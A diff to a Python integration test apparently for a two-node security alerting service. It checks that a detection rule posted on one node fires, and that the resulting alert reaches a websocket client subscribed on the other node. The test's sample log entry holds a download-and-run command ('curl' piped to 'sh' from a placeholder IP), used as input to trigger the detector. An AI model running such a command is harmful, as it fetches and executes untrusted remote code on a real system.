@@ -193,15 +193,28 @@ class RedisTwoNodesTest(unittest.TestCase):
         self.assertRegex(b.request("GET", "/metrics")[2].decode(),
                          r'securityai_redis_cache_lookups_total\{result="hit"\} [1-9]')
 
-        rule = RULE.encode()
-        status, _, body = b.request("POST", "/api/v1/rules", body=rule,
-                                    headers={"Authorization": "Bearer " + token, "Content-Type": "application/yaml"})
-        self.assertEqual(status, 201, body)
-        self.ingest(b, token, [{"message": "bash -c curl http://198.51.100.9/x.sh | sh", "host": "db-2"}])
-        self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/alerts?rule=test-curl-download", token=token)[2]["items"],
-                                 timeout=20), "the rule fires on node B")
-        fresh = wait_for(lambda: a.json("GET", path, token=token)[2]["alerts"] == 1, timeout=5)
-        self.assertTrue(fresh, "node A's cached summary was dropped when B opened the alert")
+        # A client on A that asked for alerts only.
+        ws = open_stream(a, token)
+        try:
+            ws.send(json.dumps({"type": "subscribe", "filters": {"kinds": ["alerts"]}}))
+            self.assertEqual(ws.recv()["type"], "subscribed")
+            rule = RULE.encode()
+            status, _, body = b.request("POST", "/api/v1/rules", body=rule,
+                                        headers={"Authorization": "Bearer " + token, "Content-Type": "application/yaml"})
+            self.assertEqual(status, 201, body)
+            self.ingest(b, token, [{"message": "bash -c curl http://198.51.100.9/x.sh | sh", "host": "db-2"}])
+            self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/alerts?rule=test-curl-download",
+                                                    token=token)[2]["items"], timeout=20), "the rule fires on node B")
+            fresh = wait_for(lambda: a.json("GET", path, token=token)[2]["alerts"] == 1, timeout=5)
+            self.assertTrue(fresh, "node A's cached summary was dropped when B opened the alert")
+            # The alert opened on B reaches A's client, and nothing else does (no events).
+            frame = ws.recv()
+            self.assertEqual((frame["type"], frame["change"]), ("alert", "created"), frame)
+            self.assertEqual(frame["data"]["rule_id"], "test-curl-download")
+            ws.send(json.dumps({"type": "ping"}))
+            self.assertEqual(ws.recv()["type"], "pong")
+        finally:
+            ws.close()
 
     def test_a_node_starts_without_redis_and_joins_when_it_appears(self):
         self.redis.stop()
